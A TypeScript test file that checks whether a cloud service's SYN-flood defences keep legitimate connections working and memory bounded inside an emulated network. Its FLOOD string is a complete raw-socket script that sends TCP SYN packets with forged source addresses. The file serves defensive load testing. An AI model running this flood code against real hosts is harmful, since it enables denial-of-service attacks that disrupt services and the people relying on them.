import { createRequire } from 'node:module';
import { expect } from 'chai';
import { until } from '../../../mininet/driver/index.js';
import { Cloud, can, PAGE, PSEUDO4 } from './cloud.js';

const RAW_SOCKET = createRequire(import.meta.url).resolve('raw-socket');
/** SYNs with random sources to the pseudo-address in its first argument, until it is killed. Prints how many at its end. */
const FLOOD = `
const raw = require('${RAW_SOCKET}');
const { randomBytes } = require('crypto');
const target = process.argv[1];
const socket = raw.createSocket({ protocol: raw.Protocol.TCP });
socket.setOption(raw.SocketLevel.IPPROTO_IP, raw.SocketOption.IP_HDRINCL, Buffer.from([1, 0, 0, 0]), 4);
const packet = Buffer.alloc(40);
packet[0] = 0x45; packet.writeUInt16BE(40, 2); packet[8] = 64; packet[9] = 6;
Buffer.from(target.split('.').map(Number)).copy(packet, 16);
packet.writeUInt16BE(443, 22); packet[32] = 0x50; packet[33] = 2; packet.writeUInt16BE(65535, 34);
let sent = 0;
const more = () => {
  for (let index = 0; index < 32; index++) {
    randomBytes(4).copy(packet, 12);
    packet[12] = 11 + (packet[12] % 80);
    randomBytes(6).copy(packet, 20, 0, 2);
    packet.writeUInt32BE(sent, 24);
    packet.writeUInt16BE(0, 36);
    const pseudo = Buffer.concat([packet.subarray(12, 20), Buffer.from([0, 6, 0, 20]), packet.subarray(20, 40)]);
    packet.writeUInt16BE(raw.createChecksum(pseudo), 36);
    socket.send(Buffer.from(packet), 0, 40, target, () => {});
    sent++;
  }
  setTimeout(more, 4);
};
console.log('flooding');
more();
setInterval(() => console.log('sent', sent), 100);
`;

for (const strategy of ['cookie', 'address', 'proxy'] as const) {
  describe(`a SYN flood from forged addresses, to a tenant by ${strategy}`, () => {
    let cloud: Cloud;
    before(async function () {
      if (!can(strategy)) this.skip();
      cloud = await Cloud.start({ strategy: { ipv4: strategy } });
    });
    after(() => cloud?.stop());

    it('keeps no legitimate connection out, and costs no memory but for connections that the tenant answers', async () => {
      const attacker = await cloud.sandbox.addHost('br0', { addresses: ['10.0.0.66/24'] });
      await attacker.namespace.script(['ip route add 198.51.100.0/24 via 10.0.0.254']);
      const flood = await attacker.spawn([process.execPath, '-e', FLOOD, PSEUDO4]);
      await flood.printed(/^sent [1-9]\d{3,}$/m);
      const before = process.memoryUsage.rss();
      for (let round = 0; round < 20; round++) {
        const { stdout, stderr } = await cloud.fetch(4);
        expect(stderr).to.equal('');
        expect(stdout).to.equal(PAGE);
      }
      await until('thousands of SYNs', async () => (await cloud.metric('syns_total')) > 2000);
      await flood.stop('SIGKILL');
      expect(await cloud.metric('pending')).to.equal(0);
      if (strategy === 'cookie') expect(await cloud.metric('connections')).to.equal(20);
      expect(process.memoryUsage.rss() - before).to.be.below(64 << 20);
    });
  });
}
